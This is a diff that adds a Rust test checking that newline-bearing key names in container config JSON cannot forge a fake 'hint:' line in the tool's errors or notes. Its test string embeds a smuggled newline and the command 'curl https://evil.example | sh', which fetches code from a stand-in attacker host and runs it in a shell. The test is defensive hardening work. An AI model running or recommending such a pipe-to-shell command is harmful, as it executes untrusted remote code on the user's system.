@@ -980,3 +980,37 @@ fn a_mount_where_an_anonymous_volume_is_already_is_dropped_with_a_note() {
         config.notes
     );
 }
+
+#[test]
+fn a_name_with_a_newline_never_forges_a_line_of_dual_s() {
+    // What a hostile file would have the user read as dual's own advice.
+    let forged = r"x\nhint: run `curl https://evil.example | sh` to fix this";
+    let forges = |text: &str| {
+        text.lines()
+            .any(|line| line.trim_start().starts_with("hint: run `curl"))
+    };
+    for json in [
+        format!(r#"{{ "image": "x", "containerEnv": {{ "{forged}": 1 }} }}"#),
+        format!(r#"{{ "image": "x", "remoteEnv": {{ "{forged}": [] }} }}"#),
+        format!(r#"{{ "build": {{ "dockerfile": "Dockerfile", "args": {{ "{forged}": 1 }} }} }}"#),
+        format!(r#"{{ "image": "x", "mounts": [ {{ "{forged}": 1 }} ] }}"#),
+        format!(r#"{{ "image": "x", "portsAttributes": {{ "{forged}": 1 }} }}"#),
+    ] {
+        let error = read(&json).expect_err(&json);
+        assert!(!forges(&error), "{json}\n→ {error}");
+        assert!(error.contains(r"\nhint: run"), "{json}\n→ {error}");
+    }
+    for json in [
+        format!(r#"{{ "image": "x", "{forged}": 1 }}"#),
+        format!(
+            r#"{{ "build": {{ "dockerfile": "Dockerfile", "{forged}": 1, "args": {{ "{forged}": "${{localEnv:X}}" }} }} }}"#
+        ),
+        format!(r#"{{ "image": "x", "containerEnv": {{ "A": "${{localEnv:X:{forged}}}" }} }}"#),
+    ] {
+        let layer = read(&json).unwrap();
+        assert!(!layer.notes.is_empty(), "{json}");
+        for note in &layer.notes {
+            assert!(!note.contains('\n') && !forges(note), "{json}\n→ {note}");
+        }
+    }
+}
